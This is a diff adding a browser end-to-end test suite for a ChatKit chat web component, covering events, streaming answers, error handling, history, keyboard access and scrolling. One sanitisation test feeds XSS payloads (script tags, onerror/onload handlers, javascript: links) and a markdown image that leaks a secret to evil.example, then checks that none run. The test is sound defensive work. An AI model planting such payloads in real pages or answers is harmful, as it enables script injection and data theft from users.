@@ -1,0 +1,537 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import type { Page } from 'puppeteer-core';
+import { ask, eventNames, startHarness, texts, waitForElement, waitForText, type Harness } from './harness';
+import { answerEvents, assistantMessage, textDelta, thread, userMessage } from './protocol-fixtures';
+import type { EventStream } from './scripted-server';
+
+let harness: Harness;
+let page: Page;
+beforeAll(async () => {
+  harness = await startHarness();
+});
+afterAll(() => harness?.close());
+afterEach(() => page?.close());
+
+const open = async (options: object = {}) => {
+  page = await harness.open(options);
+  await waitForElement(page, '[data-composer]');
+  return page;
+};
+
+/** Takes the question and answers it with what the test sends. */
+const answering = (rest: (stream: EventStream) => void | Promise<void>) => ({
+  'threads.create': (params: Record<string, unknown>) => ({
+    stream: (stream: EventStream) => {
+      const { content } = params.input as { content: { text: string }[] };
+      stream.send({ type: 'thread.created', thread: thread('thr_1') });
+      stream.send({ type: 'thread.item.done', item: userMessage('msg_1', content[0]?.text ?? '') });
+      return rest(stream);
+    },
+  }),
+});
+
+const wholeAnswer = (text: string, annotations: object[] = []) =>
+  answering((stream) => {
+    for (const event of answerEvents('msg_2', text.match(/[\s\S]{1,6}/g) ?? [], annotations)) stream.send(event);
+    stream.end();
+  });
+
+const composerText = () => page.evaluate(() => window.harness.element?.getComposerValue().text);
+const typesSent = () => harness.server.requests.map(({ type }) => type);
+
+describe('through the real chatkit-react', () => {
+  test('every one of the thirteen handlers hears its event', async () => {
+    await open({
+      initialThread: 'thr_0',
+      composer: { tools: [{ id: 'search', label: 'Search', icon: 'search' }] },
+    });
+    harness.server.script = {
+      ...answering((stream) => {
+        stream.send({ type: 'client_effect', name: 'highlight', data: { line: 3 } });
+        for (const event of answerEvents('msg_2', ['[Open it](chatkit-link://ticket?id=7)'])) stream.send(event);
+        stream.send({ type: 'error', code: 'stream.error', allow_retry: true });
+        stream.end();
+      }),
+    };
+    await page.evaluate(async () => {
+      const { element } = window.harness;
+      await element?.setThreadId(null);
+      await element?.setComposerValue({ text: 'Why?', selectedToolId: 'search' });
+      await element?.showHistory();
+      await element?.hideHistory();
+      await element?.focusComposer();
+    });
+    await page.keyboard.press('Enter');
+    await waitForText(page, '.link', 'Open it');
+    await (await page.$('openai-chatkit >>> .link'))?.click();
+    await page.waitForFunction(() => window.harness.events.some(({ name }) => name === 'deeplink'));
+    const names = new Set(await eventNames(page));
+    expect([...names].filter((name) => name !== 'entity').toSorted()).toEqual(
+      [
+        'ready',
+        'error',
+        'effect',
+        'deeplink',
+        'response.start',
+        'response.end',
+        'history.open',
+        'history.close',
+        'thread.change',
+        'thread.load.start',
+        'thread.load.end',
+        'tool.change',
+        'log',
+      ].toSorted(),
+    );
+    const details = await page.evaluate(() => window.harness.events);
+    expect(details).toContainEqual({ name: 'effect', detail: { name: 'highlight', data: { line: 3 } } });
+    expect(details).toContainEqual({ name: 'deeplink', detail: { name: 'ticket', data: { id: '7' } } });
+    expect(details).toContainEqual({ name: 'tool.change', detail: { toolId: 'search' } });
+    expect(details).toContainEqual({ name: 'thread.change', detail: { threadId: 'thr_1' } });
+  });
+
+  test.each([
+    ['an unknown key', { colour: 'red' }],
+    ['both ways to authenticate', { api: { url: '/chatkit', domainKey: 'k', getClientSecret: 'x' } }],
+    ['a wrong type', { composer: { placeholder: 7 } }],
+    ['a wrong theme', { theme: 'blue' }],
+  ])('%s keeps the last good options and everything on the screen', async (_name, bad) => {
+    await open({ composer: { placeholder: 'Good placeholder' } });
+    await page.type('openai-chatkit >>> [data-composer]', 'A draft');
+    await page.evaluate((options) => window.harness.render(options as object), bad);
+    await page.waitForFunction(() => window.harness.events.some(({ name }) => name === 'error'));
+    expect(await composerText()).toBe('A draft');
+    const placeholder = await page.$eval('openai-chatkit >>> [data-composer]', (field) =>
+      field.getAttribute('placeholder'),
+    );
+    expect(placeholder).toBe('Good placeholder');
+    expect(await page.$eval('#card-slot', (slot) => slot.assignedSlot !== null)).toBe(true);
+  });
+
+  test('bad options from the start report an error, and good ones then work', async () => {
+    page = await harness.open({ theme: 'blue' });
+    await page.waitForFunction(() => window.harness.events.some(({ name }) => name === 'error'));
+    await page.evaluate(() => window.harness.render({}));
+    await page.waitForFunction(() => window.harness.events.some(({ name }) => name === 'ready'));
+  });
+});
+
+describe('an answer', () => {
+  test('is painted while it arrives', async () => {
+    await open();
+    let stream: EventStream | undefined;
+    harness.server.script = answering((opened) => {
+      stream = opened;
+      opened.send({ type: 'thread.item.added', item: { ...assistantMessage('msg_2', ''), content: [] } });
+    });
+    await ask(page, 'Why?');
+    for (const piece of ['One ', 'two ', 'three ', 'four ', 'five']) {
+      await page.waitForFunction(() => window.harness.own.some(({ name }) => name.endsWith('accepted')));
+      stream?.send(textDelta('msg_2', piece));
+      await waitForText(page, '.answer', piece.trim());
+    }
+    expect((await texts(page, '.answer .markdown'))[0]).toBe('One two three four five');
+    stream?.end();
+  });
+
+  test('never runs a script and asks no other host', async () => {
+    await open();
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(new URL(request.url()).host));
+    const violations: string[] = [];
+    page.on('console', (message) => violations.push(message.text()));
+    harness.server.script = wholeAnswer(
+      [
+        '<script>window.pwned = 1</script>',
+        '<img src=x onerror="window.pwned=1">',
+        '<svg onload="window.pwned=1"><iframe srcdoc="<script>parent.pwned=1</script>">',
+        '[click](javascript:window.pwned=1)',
+        '![pixel](https://evil.example/pixel.png?secret)',
+        '<a href="javascript:window.pwned=1">x</a>',
+      ].join('\n\n'),
+    );
+    await ask(page, 'Try');
+    await waitForText(page, '.answer', 'pixel');
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+    expect(await page.$('openai-chatkit >>> .answer img')).toBeNull();
+    expect(await page.$('openai-chatkit >>> .answer a')).toBeNull();
+    expect(new Set(asked)).toEqual(new Set([new URL(harness.server.url).host]));
+    expect(violations).toEqual([]);
+  });
+
+  test('shows an image after a press', async () => {
+    await open();
+    harness.server.script = wholeAnswer('![A plan](https://images.example/plan.png)');
+    await ask(page, 'Show');
+    await waitForText(page, '.image-gate', 'images.example');
+    await (await page.$('openai-chatkit >>> .image-gate'))?.click();
+    await waitForElement(page, '.answer img[referrerpolicy="no-referrer"]');
+  });
+
+  test('that breaks off is kept and asked for again by the id of the question', async () => {
+    await open();
+    harness.server.script = {
+      ...answering((stream) => {
+        stream.send({ type: 'thread.item.added', item: { ...assistantMessage('msg_2', ''), content: [] } });
+        stream.send(textDelta('msg_2', 'Half an answer'));
+        setTimeout(() => stream.cut(), 100);
+      }),
+      'threads.retry_after_item': () => ({
+        stream: (stream) => {
+          for (const event of answerEvents('msg_3', ['A whole answer'])) stream.send(event);
+          stream.end();
+        },
+      }),
+    };
+    await ask(page, 'Why?');
+    await waitForText(page, '.interrupted', 'The answer stopped halfway. What arrived is kept.');
+    expect(await texts(page, '.answer .markdown')).toEqual(['Half an answer']);
+    await (await page.$('openai-chatkit >>> .interrupted button'))?.click();
+    await waitForText(page, '.answer', 'A whole answer');
+    expect(typesSent()).toEqual(['threads.create', 'threads.retry_after_item']);
+    expect(harness.server.requests[1]?.params).toEqual({ thread_id: 'thr_1', item_id: 'msg_1' });
+    expect(await texts(page, '.answer .markdown')).toEqual(['A whole answer']);
+    expect(await page.evaluate(() => window.harness.element?.shadowRoot?.activeElement?.localName)).toBe('textarea');
+  });
+
+  test('is stopped by Escape, and the server sees the connection close', async () => {
+    await open();
+    let closed: Promise<void> | undefined;
+    harness.server.script = answering((stream) => {
+      closed = stream.closed;
+      stream.send({ type: 'thread.item.added', item: { ...assistantMessage('msg_2', ''), content: [] } });
+      stream.send(textDelta('msg_2', 'A very long'));
+    });
+    await ask(page, 'Why?');
+    await waitForText(page, '.answer', 'A very long');
+    await page.keyboard.press('Escape');
+    await closed;
+    await waitForText(page, '.interrupted', 'Stopped.');
+    expect(await texts(page, '.notice')).toEqual([]);
+  });
+
+  test('a client tool goes to the host and its result to the server', async () => {
+    await open();
+    harness.server.script = {
+      ...answering((stream) => {
+        stream.send({
+          type: 'thread.item.done',
+          item: {
+            type: 'client_tool_call',
+            id: 'tc_1',
+            thread_id: 'thr_1',
+            created_at: '2026-11-21T09:00:00',
+            status: 'pending',
+            call_id: 'c',
+            name: 'theme',
+            arguments: { to: 'dark' },
+          },
+        });
+        stream.end();
+      }),
+      'threads.add_client_tool_output': () => ({
+        stream: (stream) => {
+          for (const event of answerEvents('msg_3', ['Done.'])) stream.send(event);
+          stream.end();
+        },
+      }),
+    };
+    await ask(page, 'Dark, please');
+    await waitForText(page, '.answer', 'Done.');
+    expect(await page.evaluate(() => window.harness.clientToolCalls)).toEqual([
+      { name: 'theme', params: { to: 'dark' } },
+    ]);
+    expect(harness.server.requests[1]?.params).toEqual({ thread_id: 'thr_1', result: { answer: 42 } });
+  });
+});
+
+describe('a message that the server does not take', () => {
+  test.each([
+    ['401', { json: {}, status: 401 }, 'asks you to sign in again'],
+    ['500', { json: {}, status: 500 }, 'had a problem (500)'],
+    ['a sign-in page', { text: '<html>Sign in</html>', contentType: 'text/html' }, 'Something other than'],
+    ['429', { text: '', contentType: 'text/plain', status: 429, headers: { 'retry-after': '20' } }, '20 seconds'],
+  ])('%s: its text returns to the composer, once asked, and one sentence says why', async (_name, answer, sentence) => {
+    await open();
+    harness.server.script = { 'threads.create': () => answer };
+    await ask(page, 'Precious words');
+    await waitForText(page, '.notice', sentence);
+    expect(await composerText()).toBe('Precious words');
+    expect(await texts(page, '.bubble')).toEqual([]);
+    expect(typesSent()).toEqual(['threads.create']);
+    const own = await page.evaluate(() => window.harness.own);
+    expect(own.at(-1)).toEqual({ name: 'chatkit.composer.change', detail: { text: 'Precious words' } });
+    expect(own.some(({ detail }) => JSON.stringify(detail) === '{"text":""}')).toBe(false);
+
+    harness.server.script = wholeAnswer('Here you are.');
+    await (await page.$('openai-chatkit >>> .notice .button'))?.click();
+    await waitForText(page, '.answer', 'Here you are.');
+    expect(await texts(page, '.notice')).toEqual([]);
+  });
+
+  test('is left to the host when it prevents the event', async () => {
+    await open();
+    await page.evaluate(() => {
+      window.harness.preventErrors = true;
+    });
+    harness.server.script = { 'threads.create': () => ({ json: {}, status: 500 }) };
+    await ask(page, 'Precious words');
+    await page.waitForFunction(() => window.harness.events.some(({ name }) => name === 'error'));
+    expect(await composerText()).toBe('Precious words');
+    expect(await texts(page, '.notice')).toEqual([]);
+  });
+});
+
+describe('the composer', () => {
+  test('breaks on Shift+Enter, never sends while an input method composes, and grows to eight lines', async () => {
+    await open();
+    const field = await page.$('openai-chatkit >>> [data-composer]');
+    const height = () => field?.evaluate((element) => element.clientHeight);
+    const one = (await height()) ?? 0;
+    await field?.focus();
+    for (let line = 0; line < 12; line += 1) {
+      await page.keyboard.type('line');
+      await page.keyboard.down('Shift');
+      await page.keyboard.press('Enter');
+      await page.keyboard.up('Shift');
+    }
+    const many = (await height()) ?? 0;
+    expect(many).toBeGreaterThan(one * 5);
+    expect(many).toBeLessThanOrEqual(8 * 21 + 10);
+    await field?.evaluate((element) =>
+      element.dispatchEvent(
+        new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true, isComposing: true }),
+      ),
+    );
+    expect(typesSent()).toEqual([]);
+  });
+
+  test('is replaced by setComposerValue as the public interface says', async () => {
+    await open();
+    await page.type('openai-chatkit >>> [data-composer]', 'typed');
+    await page.evaluate(() => window.harness.element?.setComposerValue({ text: '  set  ', reply: 'a quote' }));
+    expect(await composerText()).toBe('set');
+    await waitForText(page, '.reply', 'a quote');
+    await page.evaluate(() => window.harness.element?.setComposerValue({}));
+    expect(await composerText()).toBe('');
+    expect(await texts(page, '.reply')).toEqual([]);
+  });
+
+  test.each([
+    ['nothing', {}],
+    ['only spaces', { text: '  ' }],
+    ['bad content', { content: [{ type: 'nonsense' }] }],
+  ])('sendUserMessage with %s rejects without a request', async (_name, params) => {
+    await open();
+    const outcome = await page.evaluate(
+      (given) =>
+        window.harness.element?.sendUserMessage(given as { text: string }).then(
+          () => 'sent',
+          (error: Error) => error.name,
+        ),
+      params,
+    );
+    expect(outcome).toBe('ChatKitUsageError');
+    expect(typesSent()).toEqual([]);
+  });
+});
+
+describe('the history', () => {
+  const threads = () => ({
+    'threads.list': () => ({
+      json: {
+        data: [thread('thr_1', { title: 'json encoders' }), thread('thr_2', { title: 'asyncio' })],
+        has_more: false,
+      },
+    }),
+    'threads.get_by_id': (params: Record<string, unknown>) => ({
+      json: thread(String(params.thread_id), {
+        title: 'asyncio',
+        items: {
+          data: [userMessage('msg_8', 'What is a task?'), assistantMessage('msg_9', 'A task…')],
+          has_more: false,
+        },
+      }),
+    }),
+  });
+
+  test('is searched, opened and left by the keyboard', async () => {
+    await open();
+    harness.server.script = threads();
+    await page.evaluate(() => window.harness.element?.showHistory());
+    await waitForText(page, '.entry', 'asyncio');
+    await page.keyboard.type('zzz');
+    await waitForText(page, '.history-note', 'Nothing found for “zzz”.');
+    for (let count = 0; count < 3; count += 1) await page.keyboard.press('Backspace');
+    await page.keyboard.type('async');
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('Enter');
+    await waitForText(page, '.answer', 'A task…');
+    expect(await page.evaluate(() => window.harness.element?.shadowRoot?.activeElement?.localName)).toBe('textarea');
+  });
+
+  test('renames and deletes after a question, and focus is never lost', async () => {
+    await open();
+    harness.server.script = { ...threads(), 'threads.update': () => ({ json: thread('thr_1', { title: 'New' }) }) };
+    const focused = () =>
+      page.evaluate(() => {
+        const active = window.harness.element?.shadowRoot?.activeElement;
+        return active?.getAttribute('aria-label') ?? active?.textContent ?? null;
+      });
+    await page.evaluate(() => window.harness.element?.showHistory());
+    await waitForText(page, '.entry', 'asyncio');
+    await (await page.$('openai-chatkit >>> [aria-label="Rename “json encoders”"]'))?.click();
+    expect(await focused()).toBe('Title');
+    await page.keyboard.type('New');
+    await page.keyboard.press('Enter');
+    await waitForText(page, '.entry', 'New');
+    expect(await focused()).toContain('New');
+    await (await page.$('openai-chatkit >>> [aria-label="Delete “New”"]'))?.click();
+    await waitForText(page, '.entries', 'Delete “New”?');
+    expect(await focused()).toBe('Keep');
+    await page.keyboard.press('Escape');
+    await waitForText(page, '.entry', 'New');
+    await (await page.$('openai-chatkit >>> [aria-label="Delete “New”"]'))?.click();
+    await (await page.$('openai-chatkit >>> .button.danger'))?.click();
+    await page.waitForFunction(() => window.harness.element?.shadowRoot?.querySelectorAll('.entry').length === 1);
+    expect(await focused()).toBe('Search conversations');
+    await page.keyboard.press('Escape');
+    await waitForElement(page, '[data-composer]');
+    expect(typesSent()).toEqual(['threads.list', 'threads.update', 'threads.delete']);
+    expect(harness.server.requests[1]?.params).toEqual({ thread_id: 'thr_1', title: 'New' });
+  });
+
+  test('a thread that cannot be opened rejects and leaves the open one', async () => {
+    await open();
+    harness.server.script = { ...wholeAnswer('Here.'), 'threads.get_by_id': () => ({ json: {}, status: 404 }) };
+    await ask(page, 'Why?');
+    await waitForText(page, '.answer', 'Here.');
+    const outcome = await page.evaluate(() =>
+      window.harness.element?.setThreadId('thr_9').then(
+        () => 'opened',
+        (error: Error) => error.name,
+      ),
+    );
+    expect(outcome).toBe('ChatKitHttpError');
+    expect(await texts(page, '.answer .markdown')).toEqual(['Here.']);
+  });
+});
+
+describe('by keyboard and screen reader', () => {
+  test('arrows go from message to message, Escape one level out', async () => {
+    await open({ threadItemActions: { retry: true, feedback: true } });
+    harness.server.script = { ...wholeAnswer('An answer.'), 'items.feedback': () => ({ json: {} }) };
+    await ask(page, 'A question');
+    await waitForText(page, '.answer', 'An answer.');
+    const focused = () =>
+      page.evaluate(() => {
+        const active = window.harness.element?.shadowRoot?.activeElement as HTMLElement | undefined;
+        return active?.dataset.message ?? active?.getAttribute('aria-label') ?? active?.localName;
+      });
+    await page.evaluate(() =>
+      window.harness.element?.shadowRoot?.querySelector<HTMLElement>('[data-message="msg_2"]')?.focus(),
+    );
+    await page.keyboard.press('ArrowUp');
+    expect(await focused()).toBe('msg_1');
+    await page.keyboard.press('End');
+    expect(await focused()).toBe('msg_2');
+    await page.keyboard.press('Tab');
+    expect(await focused()).toBe('Copy');
+    for (let count = 0; count < 2; count += 1) await page.keyboard.press('Tab');
+    await page.keyboard.press('Enter');
+    await waitForElement(page, '[aria-label="Helpful"][aria-pressed="true"]');
+    expect(harness.server.requests.at(-1)).toMatchObject({
+      type: 'items.feedback',
+      params: { thread_id: 'thr_1', item_ids: ['msg_2'], kind: 'positive' },
+    });
+    await page.keyboard.press('Escape');
+    expect(await focused()).toBe('msg_2');
+    await page.keyboard.press('Escape');
+    expect(await focused()).toBe('Your question');
+  });
+
+  test('an answer is announced by sentence, and its end', async () => {
+    await open();
+    let stream: EventStream | undefined;
+    harness.server.script = answering((opened) => {
+      stream = opened;
+      opened.send({ type: 'thread.item.added', item: { ...assistantMessage('msg_2', ''), content: [] } });
+      opened.send(textDelta('msg_2', 'First sentence. Second is not'));
+    });
+    await ask(page, 'Why?');
+    const said = (text: string) => waitForText(page, '.thread > .hidden', text);
+    await said('First sentence.');
+    for (const event of [...answerEvents('msg_2', ['First sentence. Second is not long.'])].slice(-1)) {
+      stream?.send(event);
+    }
+    stream?.end();
+    await said('Second is not long. Answer finished');
+  });
+
+  test('waiting is said: connecting, then still working with a way to stop', async () => {
+    await open();
+    harness.server.script = { 'threads.create': () => ({ hang: true }) };
+    await ask(page, 'Why?');
+    await waitForElement(page, '.wait-line');
+    await waitForText(page, '.wait-text', `Connecting to ${new URL(harness.server.url).host}…`);
+    await page.waitForFunction(
+      () => window.harness.element?.shadowRoot?.querySelector('.wait-text')?.textContent?.includes('Still working'),
+      { timeout: 12_000 },
+    );
+    await (await page.$('openai-chatkit >>> .wait-text button'))?.click();
+    await page.waitForFunction(() => window.harness.element?.getComposerValue().text === 'Why?');
+  });
+});
+
+test('a reader who scrolled up is left there and gets a way back', async () => {
+  await open({ thread: { autoScroll: true } });
+  let stream: EventStream | undefined;
+  harness.server.script = answering((opened) => {
+    stream = opened;
+    opened.send({ type: 'thread.item.added', item: { ...assistantMessage('msg_2', ''), content: [] } });
+    opened.send(textDelta('msg_2', 'A line.\n\n'.repeat(60)));
+  });
+  await ask(page, 'Why?');
+  await waitForText(page, '.answer', 'A line.');
+  const fromEnd = () =>
+    page.$eval('openai-chatkit >>> .scroller', (scroller) =>
+      Math.round(scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight),
+    );
+  await page.waitForFunction(() => {
+    const scroller = window.harness.element?.shadowRoot?.querySelector('.scroller');
+    return scroller && scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 2;
+  });
+  await page.$eval('openai-chatkit >>> .scroller', (scroller) => scroller.scrollTo(0, 0));
+  await waitForElement(page, '.jump');
+  stream?.send(textDelta('msg_2', 'The last line.'));
+  await waitForText(page, '.answer', 'The last line.');
+  expect(await fromEnd()).toBeGreaterThan(500);
+  await (await page.$('openai-chatkit >>> .jump'))?.click();
+  expect(await fromEnd()).toBeLessThan(2);
+  stream?.end();
+});
+
+test('a closed thread says why and takes no message', async () => {
+  await open();
+  harness.server.script = {
+    'threads.get_by_id': () => ({
+      json: thread('thr_1', {
+        status: { type: 'closed', reason: 'This conversation has ended.' },
+        items: { data: [userMessage('msg_1', 'Why?'), assistantMessage('msg_2', 'Because.')], has_more: false },
+      }),
+    }),
+  };
+  await page.evaluate(() => window.harness.element?.setThreadId('thr_1'));
+  await waitForText(page, '.closed', 'This conversation has ended.');
+  expect(await page.$eval('openai-chatkit >>> [data-composer]', (field) => field.matches(':disabled'))).toBe(true);
+});
+
+test('a press on a suggestion sends it and keeps the focus in the chat', async () => {
+  await open({ startScreen: { greeting: 'Hello', prompts: [{ label: 'Explain', prompt: 'Explain this passage' }] } });
+  harness.server.script = wholeAnswer('Explained.');
+  await waitForText(page, '.greeting', 'Hello');
+  await (await page.$('openai-chatkit >>> .starters button'))?.click();
+  await waitForText(page, '.answer', 'Explained.');
+  expect(await texts(page, '.bubble')).toEqual(['Explain this passage']);
+  expect(await page.evaluate(() => window.harness.element?.shadowRoot?.activeElement?.localName)).toBe('textarea');
+});
